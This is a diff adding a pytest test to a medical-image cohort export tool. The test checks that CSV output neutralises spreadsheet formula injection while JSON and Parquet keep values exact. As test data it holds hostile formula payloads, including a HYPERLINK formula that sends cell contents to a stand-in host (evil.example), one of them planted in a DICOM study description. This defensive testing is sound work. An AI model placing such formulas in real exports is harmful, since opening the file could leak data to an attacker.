@@ -133,3 +133,35 @@ def test_api_export_equals_cli_export(store, tmp_path):
 
         bad = client.post("/export", params={"format": "xlsx"}, json={"query": "a"})
         assert bad.status_code == 422 and "error" in bad.json()
+
+
+def test_csv_neutralises_formulas_json_and_parquet_stay_exact(tmp_path, tiny_model):
+    """A spreadsheet runs cells that begin with = + - @ (or tab, CR): CSV prefixes them with '."""
+    import pydicom
+
+    from retrieval.export import cohort_rows, to_bytes
+
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+2", "-2+3", "@SUM(A1)",
+               "\t=1", "\r=1", "plain", "1.5-2"]
+    rows = cohort_rows({"id": i, "path": f"/data/{i}.png", "score": 0.5,
+                        "metadata": {"study_description": text, "modality": "CT"}}
+                       for i, text in enumerate(hostile))
+    written = list(csv.DictReader(io.StringIO(to_bytes(rows, "csv").decode(), newline="")))
+    cells = [r["study_description"] for r in written]
+    assert cells[:6] == ["'" + text for text in hostile[:6]]
+    assert cells[6:] == ["plain", "1.5-2"]
+    assert written[0]["score"] == "0.5" and written[0]["rank"] == "1"
+    assert [r["study_description"] for r in json.loads(to_bytes(rows, "json"))] == hostile
+    table = pq.read_table(io.BytesIO(to_bytes(rows, "parquet"))).to_pylist()
+    assert [r["study_description"] for r in table] == hostile
+    # End to end: a DICOM whose study description is a formula, exported by the CLI.
+    folder = tmp_path / "dicom"
+    folder.mkdir()
+    ds = pydicom.dcmread(PYDICOM_TEST_FILES / "CT_small.dcm")
+    ds.StudyDescription = '=HYPERLINK("http://evil.example","x")'
+    ds.save_as(folder / "formula.dcm")
+    index_store(tmp_path / "store", folder, tiny_model)
+    out = tmp_path / "cohort.csv"
+    cli("export", "--query", "ct", "-k", "1", "--out", str(out), "--store", str(tmp_path / "store"))
+    [row] = list(csv.DictReader(out.open()))
+    assert row["study_description"] == "'" + ds.StudyDescription
